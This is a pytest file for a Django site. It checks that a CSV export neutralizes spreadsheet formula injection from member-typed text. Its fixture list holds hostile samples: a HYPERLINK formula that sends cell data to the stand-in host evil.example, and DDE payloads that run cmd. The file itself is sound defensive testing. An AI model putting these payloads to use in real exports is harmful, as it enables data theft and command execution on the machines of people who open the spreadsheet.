"""What a member typed never becomes a formula in a moderator's spreadsheet."""

from __future__ import annotations

import csv
import io
from collections.abc import Callable
from typing import Any

import pytest
from django.test import Client

from jobs import submission
from sparkle_site.admin.csv_export import neutralize_formula

FORMULAS = [
    '=HYPERLINK("http://evil.example/"&A1)', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,1)", "\t=1+1", "\r=1+1", "\n=1+1",
    "＝1+1", "=1", '=cmd|"/C calc"!A1',
]  # fmt: skip


@pytest.mark.parametrize("typed", FORMULAS)
def test_a_formula_becomes_text(typed: str) -> None:
    assert neutralize_formula(typed) == f"'{typed}"


@pytest.mark.parametrize("typed", ["a fox", "-5", "+5", "1=1", "", "it's = fine", 42, -42])
def test_what_is_no_formula_stays_as_it_is(typed: object) -> None:
    assert neutralize_formula(typed) == str(typed)


@pytest.mark.django_db
def test_no_cell_of_an_export_begins_a_formula(
    operator: Client, make_guild: Callable[..., Any], make_ask: Callable[..., Any], now: Any
) -> None:
    guild = make_guild(name="=1+2", max_waiting=99, max_waiting_per_member=99)
    for typed in FORMULAS:
        submission.submit(make_ask(guild, prompt=typed, member_name=typed[:30]), now=now)
    answer = operator.get("/admin/jobs/job/export/", follow=True)
    text = b"".join(answer.streaming_content).decode("utf-8-sig")  # type: ignore[attr-defined]
    rows = list(csv.reader(io.StringIO(text)))
    assert len(rows) == 1 + len(FORMULAS)
    # A line break inside a cell, or a comma, makes no second cell.
    assert {len(row) for row in rows} == {len(rows[0])}
    assert sum(cell.lstrip("'").strip() in {each.strip() for each in FORMULAS} for row in rows for cell in row) >= 10
    for row in rows[1:]:
        for cell in row:
            assert not cell.startswith(("=", "@", "\t", "\r", "\n", "＝")), cell
            assert not cell.startswith(("+", "-")) or cell[1:].isdigit(), cell
